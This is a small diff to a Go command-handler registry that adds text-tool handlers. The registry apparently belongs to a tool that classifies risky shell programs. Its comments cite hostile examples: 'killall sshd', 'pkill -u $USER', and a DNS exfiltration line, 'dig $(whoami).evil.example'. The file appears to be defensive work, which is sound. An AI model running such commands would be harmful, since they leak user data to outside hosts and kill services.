@@ -45,6 +45,7 @@ func loadPrograms() {
 		addInlineRunnerHandlers(handlers) // inlinerunners.go: deno eval, bun -e, apply_patch
 		addKillHandlers(handlers)         // killtargets.go: pkill -u $USER, killall sshd
 		addDNSHandlers(handlers)          // dnsexfil.go: dig $(whoami).evil.example
+		addTextToolHandlers(handlers)     // texttools.go: iconv, bc, history
 		programs.handlers, programs.codeRunners = handlers, codeRunners
 	})
 }
